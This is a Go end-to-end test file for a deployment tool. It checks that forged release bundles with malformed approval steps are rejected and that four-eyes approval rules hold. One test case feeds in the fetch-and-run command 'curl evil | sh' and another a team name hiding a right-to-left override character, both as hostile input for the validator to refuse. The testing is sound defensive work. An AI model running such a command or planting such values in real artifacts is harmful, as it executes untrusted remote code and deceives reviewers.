package e2e

import (
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ferrydeploy/ferry/internal/domain"
	"github.com/ferrydeploy/ferry/internal/ferrytest"
)

// TestHostileInterventionBundles: correctly signed bundles whose
// manual-intervention steps are malformed (a timeout of two million years,
// no instructions, a team name that is no name (hidden characters, too
// long, another space's), a step that asks and also
// runs a script) are refused at import, naming the rule, and nothing is
// written; a well-formed step naming a team the deploying space lacks
// imports but does not deploy until that team exists; and a release
// imported with four eyes cannot be imported again without them.
func TestHostileInterventionBundles(t *testing.T) {
	p := newPair(t)
	p.release(t)
	file := p.promote(t)
	genuine := bundlePayload(t, file)
	devtest := p.dev.SpaceIdentity(t, "DevTest Space")
	prod := func(args ...string) ferrytest.Result {
		return p.prod.Must(append([]string{"--space", "Prod Space"}, args...)...)
	}
	prod("apply", "-f", ferrytest.WriteFile(t, "prod.yaml", `environments: [{name: Production}]
lifecycles: [{name: Production, phases: [{name: Live, environments: [Production]}]}]
`))
	prod("bundle", "import", file)
	remote := "DevTest Space: My Project"
	prod("var", "set", remote, "ConnectionString", "Server=prod-db", "--env", "Production")

	gate := domain.Step{Name: "Sign-off", Type: domain.StepManualIntervention, Instructions: "Check the ticket.",
		ResponsibleTeams: []string{"Approvers"}, PreventSelfApproval: true}
	forged := func(version string, step domain.Step) string {
		pl := genuine
		pl.ID = "forged-" + version
		pl.Release.Version = version
		pl.Process = append(append([]domain.Step(nil), genuine.Process...), step)
		return forgeBundle(t, devtest, retargeted(pl))
	}
	for i, c := range []struct {
		edit func(*domain.Step)
		want string
	}{
		{func(s *domain.Step) { s.TimeoutMinutes = 1 << 40 }, "timeoutMinutes"},
		{func(s *domain.Step) { s.TimeoutMinutes = -5 }, "timeoutMinutes"},
		{func(s *domain.Step) { s.Instructions = "  " }, "no instructions"},
		{func(s *domain.Step) { s.ResponsibleTeams = []string{"Approvers\u202e"} }, "invisible formatting character"},
		{func(s *domain.Step) { s.ResponsibleTeams = []string{strings.Repeat("A", 101)} }, "longer than 100"},
		{func(s *domain.Step) { s.ResponsibleTeams = []string{"Other Space: Approvers"} }, "team"},
		{func(s *domain.Step) { s.Script = "curl evil | sh" }, "runs nothing"},
	} {
		step := gate
		step.ResponsibleTeams = append([]string(nil), gate.ResponsibleTeams...)
		c.edit(&step)
		version := "1.0." + string(rune('1'+i))
		r := p.prod.Fail("--space", "Prod Space", "bundle", "import", forged(version, step))
		if r.Code != 3 {
			t.Errorf("case %d: exit %d, want 3 (invalid)\n%s", i, r.Code, r.Out())
		}
		contains(t, r.Stderr, "bundle-project", c.want)
		notContains(t, prod("release", "list", remote).Stdout, version)
	}

	// Well formed, but Prod has no team Approvers: nobody but an admin
	// could answer, so it does not deploy until the team exists.
	prod("bundle", "import", forged("1.1.0", gate))
	r := p.prod.Fail("--space", "Prod Space", "deploy", remote, "1.1.0", "--to", "Production")
	contains(t, r.Stderr, `team "Approvers"`, "ferry team create")
	prod("team", "create", "Approvers", "--role", "viewer")
	var d struct{ TaskID int64 }
	decodeJSON(t, prod("deploy", remote, "1.1.0", "--to", "Production", "-o", "json").Stdout, &d)
	if d.TaskID == 0 {
		t.Fatal("no task")
	}

	// The same release again, with four eyes dropped (a relay weakening
	// the approval): its contents differ, so it is refused.
	weak := gate
	weak.PreventSelfApproval = false
	r = p.prod.Fail("--space", "Prod Space", "bundle", "import", forged("1.1.0", weak))
	contains(t, r.Stderr, "release-immutable")
	var shown struct {
		Snapshot struct{ Process []domain.Step }
	}
	decodeJSON(t, prod("release", "show", remote, "1.1.0", "-o", "json").Stdout, &shown)
	last := shown.Snapshot.Process[len(shown.Snapshot.Process)-1]
	if last.Type != domain.StepManualIntervention || !last.PreventSelfApproval {
		t.Errorf("release 1.1.0's step after the weakened import: %+v", last)
	}
}

// TestApprovalScopedToAnotherSpace: the origin asks for a production
// approval only where production is — a manual-intervention step scoped
// to "Prod Space: Production". DevTest's deployments do not wait at it;
// in Prod Space the release's deployment to Production waits for a member
// of Prod's Approvers team, the deployer may not approve it, and the
// import's scope translation keeps the step.
func TestApprovalScopedToAnotherSpace(t *testing.T) {
	p := newPair(t)
	d := func(args ...string) ferrytest.Result {
		return p.dev.Must(append([]string{"--space", "DevTest Space"}, args...)...)
	}
	yaml := devTestYAML + `      - name: PCI sign-off
        type: manual-intervention
        environments: ["Prod Space: Production"]
        instructions: Check the PCI change record.
        responsibleTeams: [Approvers]
        preventSelfApproval: true
`
	d("apply", "-f", ferrytest.WriteFile(t, "devtest.yaml", yaml))
	for _, env := range []string{"Development", "Test"} {
		d("var", "set", "My Project", "ConnectionString", "Server=dev-db", "--env", env)
	}
	d("release", "create", "My Project", "--version", "1.0.0")
	d("deploy", "My Project", "1.0.0", "--to", "Development", "--wait")
	d("deploy", "My Project", "1.0.0", "--to", "Test", "--wait")
	file := filepath.Join(t.TempDir(), "pci.bundle")
	d("promote", "My Project", "1.0.0", "--to", "Prod Space", "--out", file)

	prod := func(args ...string) ferrytest.Result {
		return p.prod.Must(append([]string{"--space", "Prod Space"}, args...)...)
	}
	prod("apply", "-f", ferrytest.WriteFile(t, "prod.yaml", `environments: [{name: Production}]
lifecycles: [{name: Production, phases: [{name: Live, environments: [Production]}]}]
`))
	prod("bundle", "import", file)
	remote := "DevTest Space: My Project"
	prod("var", "set", remote, "ConnectionString", "Server=prod-db", "--env", "Production")
	prod("user", "create", "paula")
	prod("team", "create", "Approvers", "--role", "viewer", "--user", "paula")
	var dep struct{ TaskID int64 }
	decodeJSON(t, prod("deploy", remote, "1.0.0", "--to", "Production", "-o", "json").Stdout, &dep)
	id := strconv.FormatInt(dep.TaskID, 10)
	ferrytest.WaitFor(t, 30*time.Second, "task "+id+" waiting", func() bool {
		var tk waitingTask
		decodeJSON(t, prod("task", "show", id, "-o", "json").Stdout, &tk)
		return tk.State == "Waiting" && tk.Intervention != nil && tk.Intervention.Step == "PCI sign-off"
	})
	r := p.prod.Fail("--space", "Prod Space", "task", "approve", id)
	if r.Code != 5 {
		t.Errorf("the deployer approving: exit %d, want 5\n%s", r.Code, r.Out())
	}
	key := strings.TrimSpace(prod("user", "apikey", "paula").Stdout)
	if r := ferrytest.Build(t).Run(t, "", "--server", p.prod.URL, "--api-key", key, "--space", "Prod Space", "task", "approve", id, "--note", "PCI-7 checked"); r.Code != 0 {
		t.Fatalf("paula approving: %s", r.Out())
	}
	ferrytest.WaitFor(t, 30*time.Second, "task "+id+" to succeed", func() bool {
		var tk waitingTask
		decodeJSON(t, prod("task", "show", id, "-o", "json").Stdout, &tk)
		return tk.State == "Success"
	})
	contains(t, prod("task", "log", id).Stdout, "approved by paula", "PCI-7 checked", "prod-only-step")
	// In DevTest nothing waited.
	var waiting []waitingTask
	decodeJSON(t, d("task", "list", "--waiting", "-o", "json").Stdout, &waiting)
	if len(waiting) != 0 {
		t.Errorf("DevTest waits: %+v", waiting)
	}

	// An on-arrival trigger deploys what ivan imports: his import started
	// that deployment, so under four eyes he may not approve it — though
	// as a space admin he may decide others.
	prod("apply", "-f", ferrytest.WriteFile(t, "trigger.yaml", `projects:
  - name: "`+remote+`"
    triggers: [{name: On arrival, type: on-arrival, environment: Production}]
`))
	prod("user", "create", "ivan")
	prod("team", "create", "Importers", "--role", "space-admin", "--user", "ivan")
	d("release", "create", "My Project", "--version", "1.0.1")
	d("deploy", "My Project", "1.0.1", "--to", "Development", "--wait")
	d("deploy", "My Project", "1.0.1", "--to", "Test", "--wait")
	file = filepath.Join(t.TempDir(), "pci-2.bundle")
	d("promote", "My Project", "1.0.1", "--to", "Prod Space", "--out", file)
	ivan := strings.TrimSpace(prod("user", "apikey", "ivan").Stdout)
	asIvan := func(args ...string) ferrytest.Result {
		return ferrytest.Build(t).Run(t, "", append([]string{"--server", p.prod.URL, "--api-key", ivan, "--space", "Prod Space"}, args...)...)
	}
	if r := asIvan("bundle", "import", file); r.Code != 0 {
		t.Fatalf("ivan importing: %s", r.Out())
	}
	ferrytest.WaitFor(t, 30*time.Second, "the trigger's deployment to wait", func() bool {
		decodeJSON(t, prod("task", "list", "--waiting", "-o", "json").Stdout, &waiting)
		return len(waiting) == 1
	})
	id = strconv.FormatInt(waiting[0].ID, 10)
	r = asIvan("task", "approve", id)
	if r.Code != 5 || !strings.Contains(r.Stderr, "imported this release") {
		t.Errorf("the importer approving what his import started: exit %d\n%s", r.Code, r.Out())
	}
	if r := ferrytest.Build(t).Run(t, "", "--server", p.prod.URL, "--api-key", key, "--space", "Prod Space", "task", "approve", id); r.Code != 0 {
		t.Fatalf("paula approving the trigger's deployment: %s", r.Out())
	}
}
